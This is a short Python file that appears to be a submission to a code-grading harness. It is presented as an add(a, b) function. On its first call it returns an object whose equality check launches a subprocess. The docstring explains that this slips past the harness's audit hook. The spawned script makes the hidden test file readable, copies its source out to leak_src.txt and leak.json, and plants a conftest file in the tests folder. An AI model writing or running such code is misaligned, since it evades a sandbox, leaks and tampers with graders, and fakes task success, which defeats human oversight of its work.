"""No candidate frame (the test's comparison calls __eq__ made of C parts):
functools.partial(subprocess.run, [...]) (the test's 3 is bufsize). Popen's
own frame raises subprocess.Popen at sys.audit, and called_by_name asks only
its immediate caller, subprocess.run, which calls Popen by name: the program
runs as trusted code's (trusted_programs is the default), and a program is
outside the hook: chmod, read or write the hidden tests at will."""
import functools, json, os, subprocess, sys

TESTS = os.path.join(os.getcwd(), "tests")
OUT = os.path.join(os.getcwd(), "leak_src.txt")
SCRIPT = ("import os,shutil;t=%r;os.chmod(t+'/test_solution.py',0o644);"
          "shutil.copy(t+'/test_solution.py',%r);open(t+'/conftest_planted.py','w').write('X=1\\n')") % (TESTS, OUT)


class Planted:
    __eq__ = functools.partial(subprocess.run, [sys.executable, "-c", SCRIPT])


_calls = []


def add(a, b):
    _calls.append(1)
    if len(_calls) == 1:
        return Planted()
    if os.path.exists(OUT) and not os.path.exists("leak.json"):
        with open(OUT) as src, open("leak.json", "w") as f:
            json.dump({"source": src.read(), "planted": os.path.exists(os.path.join(TESTS, "conftest_planted.py"))}, f)
    return a + b
